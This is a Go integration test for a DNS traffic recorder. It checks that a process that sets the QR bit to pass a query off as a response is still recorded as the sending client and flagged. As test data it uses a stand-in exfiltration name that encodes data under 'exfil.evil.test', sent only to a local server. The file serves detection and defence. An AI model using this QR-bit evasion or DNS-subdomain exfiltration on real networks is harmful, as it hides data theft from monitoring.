//go:build linux && (amd64 || arm64)

package record_test

import (
	"context"
	"math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/dnsrec/dnsrec/query"
	"github.com/dnsrec/dnsrec/record"
)

// TestRolesFromTransport: a process must not hide by setting the QR bit.
// It sends a "response" (flags 0x8100) carrying an exfiltration name to the
// DNS server's port, then random bytes, then a normal query. Each must be
// stored as sent by this process in the client role; the spoofed one is
// flagged, and who-resolved names this process for the exfiltration domain.
func TestRolesFromTransport(t *testing.T) {
	requireRoot(t)
	const exfil, normal = "c2data-aGVsbG8.exfil.evil.test", "www.spoof.test"
	startServer(t, normal)
	path := filepath.Join(t.TempDir(), "spoof.db")
	stop := startRecorder(t, path, record.Options{})

	send := func(b []byte) int {
		t.Helper()
		c, err := net.Dial("udp", "127.0.0.1:53")
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		if _, err := c.Write(b); err != nil {
			t.Fatal(err)
		}
		return c.LocalAddr().(*net.UDPAddr).Port
	}
	spoof := new(dns.Msg)
	spoof.SetQuestion(exfil+".", dns.TypeTXT)
	spoof.Response = true // flags 0x8100: QR and RD
	raw, err := spoof.Pack()
	if err != nil {
		t.Fatal(err)
	}
	send(raw)
	garbage := make([]byte, 40)
	for i := range garbage {
		garbage[i] = byte(rand.Uint32())
	}
	garbage[2] |= 0x80 // a QR bit in the garbage too
	garbagePort := send(garbage)
	q := new(dns.Msg)
	q.SetQuestion(normal+".", dns.TypeA)
	if _, _, err := (&dns.Client{Timeout: 2 * time.Second}).Exchange(q, "127.0.0.1:53"); err != nil {
		t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond) // past the pairing window and a reader poll
	stop()

	db := openRO(t, path)
	type obs struct {
		dir, role string
		pid       int64
		mismatch  bool
	}
	read := func(where string, args ...any) []obs {
		t.Helper()
		rows, err := db.Query(`SELECT direction, role, coalesce(pid, -1), qr_mismatch FROM messages WHERE `+where+` ORDER BY direction DESC`, args...)
		if err != nil {
			t.Fatal(err)
		}
		defer rows.Close()
		var out []obs
		for rows.Next() {
			var o obs
			if err := rows.Scan(&o.dir, &o.role, &o.pid, &o.mismatch); err != nil {
				t.Fatal(err)
			}
			out = append(out, o)
		}
		return out
	}
	me := int64(os.Getpid())
	// The server is this test process too: the receive side is ours, as
	// server.
	want := []obs{{"send", "client", me, true}, {"recv", "server", me, true}}
	if got := read(`qname = lower(?)`, exfil); !slices.Equal(got, want) {
		t.Errorf("spoofed response: %+v, want %+v", got, want)
	}
	if got := read(`parse_error IS NOT NULL AND sport = ?`, garbagePort); len(got) == 0 || got[0] != (obs{"send", "client", me, got[0].mismatch}) {
		t.Errorf("garbage to port 53: %+v, want it sent by pid %d as client", got, me)
	}
	for _, o := range read(`qname = ?`, normal) {
		if o.mismatch {
			t.Errorf("a plain query and its answer flagged as spoofed: %+v", o)
		}
	}

	// This process lives in the root pid namespace: its pid there is its pid.
	var nspid int64
	if err := db.QueryRow(`SELECT nspid FROM owners WHERE pid = ? LIMIT 1`, me).Scan(&nspid); err != nil || nspid != me {
		t.Errorf("owners.nspid = %d (%v), want %d", nspid, err, me)
	}

	qdb, err := query.Open(context.Background(), []string{path})
	if err != nil {
		t.Fatal(err)
	}
	defer qdb.Close()
	rows, err := qdb.WhoResolved(context.Background(), "exfil.evil.test", query.WhoResolvedOptions{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows {
		if r.PID.V == me && r.Count == 1 {
			found = true
		}
	}
	if !found {
		t.Errorf("who-resolved exfil.evil.test does not name the sender (pid %d, 1 message): %+v", me, rows)
	}
}
